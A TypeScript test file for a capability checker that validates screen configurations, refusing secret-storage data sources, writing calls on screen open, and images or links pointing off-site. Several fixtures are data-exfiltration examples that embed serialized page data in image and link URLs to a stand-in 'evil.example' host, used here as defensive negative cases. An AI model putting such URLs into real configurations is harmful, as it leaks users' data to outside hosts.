import { describe, expect, it } from 'vitest'
import { say } from '../check/words'
import { addressKeeps, capabilityProblems, RUN_TIME_SOURCES, type Capabilities } from './capabilities'

const caps: Capabilities = {
  sources: RUN_TIME_SOURCES,
  effect: (call) => (call.startsWith('save') ? 'write' : call.startsWith('get') ? 'read' : undefined),
  image: (a) =>
    (a.startsWith('/') && !a.startsWith('//')) || a.startsWith('https://cdn.example.cn/') || (!a.includes(':') && !a.startsWith('//')),
  link: (a) => a.startsWith('/') && !a.startsWith('//'),
}

const problems = (config: unknown) => capabilityProblems(config, caps).map((p) => `${p.path}: ${say('en', p.said)}`)

describe('capabilityProblems', () => {
  it('passes reading sources, a reading call on opening and a writing call from a tap', () => {
    expect(
      problems({
        data: { a: { call: 'getA' }, b: { static: [1] }, c: { region: 'province' } },
        enter: [{ action: 'call', call: 'getA', then: { action: 'set', state: 'x', value: 1 } }],
        body: [
          { type: 'button', text: '关注', press: { action: 'call', call: 'saveFollow', then: { action: 'call', call: 'saveB' } } },
          { type: 'image', src: '{{ data.a.cover }}', alt: '' },
          { type: 'image', src: 'https://cdn.example.cn/{{ data.a.id }}.png', alt: '' },
          { type: 'button', text: '去', press: { action: 'navigate', to: '/health/{{ data.a.id }}' } },
        ],
      }),
    ).toEqual([])
  })

  it('refuses the inspect and storage sources, naming the capability', () => {
    expect(problems({ data: { calls: { inspect: 'calls' }, secret: { storage: 'SIGN_SECRET' } } })).toEqual([
      expect.stringMatching(/^\/data\/calls: .*\(capability: data sources\): the "inspect" data source; .* only call, static, region$/),
      expect.stringMatching(/^\/data\/secret: .*\(capability: data sources\): the "storage" data source/),
    ])
  })

  it('refuses a writing call when the screen opens: enter, a source, its catch, a countdown', () => {
    expect(
      problems({
        data: { a: { call: 'saveA' }, b: { call: 'getA', catch: { action: 'call', call: 'saveC' } } },
        enter: [
          { action: 'toast', text: 'x', then: { action: 'call', call: 'saveB' } },
          { action: 'submit', form: 'f' },
        ],
        body: [{ type: 'countdown', finish: { action: 'call', call: 'saveD' } }],
      }),
    ).toEqual([
      expect.stringMatching(/^\/data\/a\/call: .*\(capability: writing calls\): "saveA" changes data/),
      expect.stringMatching(/^\/data\/b\/catch\/call: .*"saveC"/),
      expect.stringMatching(/^\/enter\/0\/then\/call: .*"saveB"/),
      expect.stringMatching(/^\/enter\/1: .*\(capability: writing calls\): the "submit" action acts for the user/),
      expect.stringMatching(/^\/body\/0\/finish\/call: .*"saveD"/),
    ])
  })

  it('a popup opened on entering still lets its buttons write on a tap', () => {
    const popup = { action: 'popup', nodes: [{ type: 'button', text: '好', press: { action: 'call', call: 'saveA' } }] }
    expect(problems({ enter: popup })).toEqual([])
  })

  it('refuses pictures and links that can leave the site, literal or computed', () => {
    expect(
      problems({
        body: [
          { type: 'image', src: 'https://evil.example/p.png?d={{ json(data) }}', alt: '' },
          { type: 'image', src: "{{ 'https://evil.example/?d=' + json(data) }}", alt: '' },
          { type: 'avatar', src: '//evil.example/a.png' },
          { type: 'button', text: 'x', press: { action: 'navigate', to: 'https://evil.example/{{ data.a }}' } },
        ],
      }),
    ).toEqual([
      expect.stringMatching(/^\/body\/0\/src: .*\(capability: images\): "https:\/\/evil.example/),
      expect.stringMatching(/^\/body\/1\/src: .*\(capability: images\)/),
      expect.stringMatching(/^\/body\/2\/src: .*\(capability: images\)/),
      expect.stringMatching(/^\/body\/3\/press\/to: .*\(capability: links\)/),
    ])
  })
})

describe('addressKeeps', () => {
  const allowed = (a: string) => a.startsWith('/') || a.startsWith('https://cdn.example.cn/')
  it.each([
    ['/static/a.png', true],
    ['/a/{{ id }}.png', true],
    ['https://cdn.example.cn/{{ id }}', true],
    ['{{ item.cover }}', true],
    ["{{ item.cover || '/static/none.png' }}", true],
    ["{{ item.cover || 'https://evil.example/x' }}", false],
    ['/{{ path }}', false],
    ['https://cdn.example.cn{{ rest }}', false],
    ['{{ a }}{{ b }}', false],
    ['{{ base + id }}', false],
    ['{{ json(data) }}', false],
  ])('%s: %s', (value, keeps) => expect(addressKeeps(value, allowed)).toBe(keeps))
})
